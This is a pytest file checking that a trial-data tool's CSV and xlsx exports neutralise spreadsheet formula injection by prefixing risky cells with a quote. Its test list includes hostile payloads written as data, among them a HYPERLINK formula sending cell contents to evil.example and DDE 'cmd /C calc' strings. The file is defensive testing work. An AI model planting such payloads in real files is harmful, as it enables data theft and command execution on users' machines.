"""Formula injection: no table the tool writes makes a spreadsheet run a cell.

OWASP's rule (a text cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets
a single quote in front) is checked on the one function and on every writer: ``export``,
``outcomes`` (CSV and xlsx), ``simulate`` and a register backup's neighbour files do not
count. Negative numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from participatie_rct.cells import neutralize_cell, neutralize_frame, table_bytes

from .helpers import FORMULA_SITE, run

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ede")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+31 6 cmd",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_gets_a_quote_in_front(value: str) -> None:
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.25", "+3", "-1e-4", "12,5", "-7", "Ede", "", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert neutralize_cell(value) == value


def test_a_frame_keeps_its_numbers_and_neutralizes_text_and_headers() -> None:
    frame = pd.DataFrame(
        {
            "site": ["=1+1", "Ede", None],
            "effect": [-0.25, 0.5, np.nan],
            "n": [-3, 4, 5],
            "=evil": ["@x", "-", "ok"],
            "level": pd.Categorical(["+a", "b", "b"]),
        }
    )
    safe = neutralize_frame(frame)
    assert list(safe.columns) == ["site", "effect", "n", "'=evil", "level"]
    assert safe["site"].tolist()[:2] == ["'=1+1", "Ede"] and pd.isna(safe["site"].iloc[2])
    assert safe["effect"].dtype == float and safe["effect"].iloc[0] == -0.25
    assert safe["n"].tolist() == [-3, 4, 5]
    assert safe["'=evil"].tolist() == ["'@x", "'-", "ok"]
    assert safe["level"].tolist() == ["'+a", "b", "b"]
    rows = list(csv.reader(io.StringIO(table_bytes(frame).decode("utf-8"))))
    assert rows[1] == ["'=1+1", "-0.25", "-3", "'@x", "'+a"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                pytest.fail(f"a live formula cell was written: {cell!r}")
            if cell.startswith("-"):
                float(cell.replace(",", "."))  # only numbers may start with a minus


def test_export_neutralizes_site_values(hostile_trial, tmp_path, capsys) -> None:
    out = tmp_path / "export.csv"
    code, _, err = run(["export", "--db", hostile_trial.db, "--out", str(out)], capsys)
    assert code == 0, err
    rows = _cells(out)
    _no_live_formula(rows)
    site = rows[0].index("site")
    assert "'" + FORMULA_SITE in {row[site] for row in rows[1:]}
    probability = rows[0].index("probability")
    assert all(0 < float(row[probability]) <= 1 for row in rows[1:])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_outcomes_neutralize_site_values(hostile_trial, tmp_path, capsys, suffix) -> None:
    out = tmp_path / f"outcomes{suffix}"
    argv = ["outcomes", "--db", hostile_trial.db, "--data", str(hostile_trial.data)]
    code, _, err = run([*argv, "--out", str(out)], capsys)
    assert code == 0, err
    if suffix == ".csv":
        rows = _cells(out)
        _no_live_formula(rows)
        assert "'" + FORMULA_SITE in {row[rows[0].index("site")] for row in rows[1:]}
        return
    from openpyxl import load_workbook

    sheet = load_workbook(out).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in values if c.data_type == "f"], "a formula cell was written"
    texts = {c.value for c in values if isinstance(c.value, str)}
    assert "'" + FORMULA_SITE in texts
    assert not [t for t in texts if t[:1] in ("=", "+", "@", "-")]
    # numbers stay numbers (the outcome and covariate columns)
    assert any(isinstance(c.value, int | float) for c in values)


def test_simulate_writes_neutralized_tables() -> None:
    from participatie_rct.simulate import simulate_trial
    from participatie_rct.simulate.files import simulation_files

    trial = simulate_trial("apeldoorn", rng=np.random.default_rng(5))
    trial.participants["site"] = ["@SUM(1)", "-3", *["Epe"] * (len(trial.participants) - 2)]
    rows = list(csv.reader(io.StringIO(simulation_files(trial)["participants.csv"].decode())))
    site = rows[0].index("site")
    assert [rows[1][site], rows[2][site]] == ["'@SUM(1)", "-3"]
    _no_live_formula(rows)


def test_simulate_cli_output_has_no_live_formula(tmp_path, capsys) -> None:
    code, _, err = run(
        ["simulate", "--scenario", "apeldoorn", "--seed", "2", "--out", str(tmp_path / "s")],
        capsys,
    )
    assert code == 0, err
    for name in ("participants.csv", "benefit_months.csv", "survey.csv"):
        _no_live_formula(_cells(tmp_path / "s" / name))


def test_export_neutralizes_whatever_the_register_holds(hostile_trial, tmp_path) -> None:
    """Independent of what intake accepts: the export's own rows pass through the rule."""
    from participatie_rct.registry import Register

    reg = Register.open(hostile_trial.db)
    try:
        frame = reg.assignments()
        values = ["=1+1", "@SUM(A1)", "-3", "\t=cmd"]
        frame["site"] = (values * len(frame))[: len(frame)]
        reg.assignments = lambda: frame  # type: ignore[method-assign]
        reg.export(tmp_path / "export.csv")
    finally:
        reg.close()
    rows = _cells(tmp_path / "export.csv")
    _no_live_formula(rows)
    site = rows[0].index("site")
    assert [row[site] for row in rows[1:5]] == ["'=1+1", "'@SUM(A1)", "-3", "'\t=cmd"]
